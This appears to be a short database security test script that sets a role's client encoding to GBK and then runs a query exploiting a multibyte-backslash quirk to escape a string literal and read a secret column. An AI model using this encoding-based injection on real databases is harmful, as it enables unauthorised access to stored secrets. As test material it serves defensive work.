-- Has the encoding changed at the next login.
-- wants: read
-- attack:
ALTER ROLE mallory SET client_encoding = 'GBK';
-- session: second
-- together
SELECT E'本\', secret FROM vlt_account --'
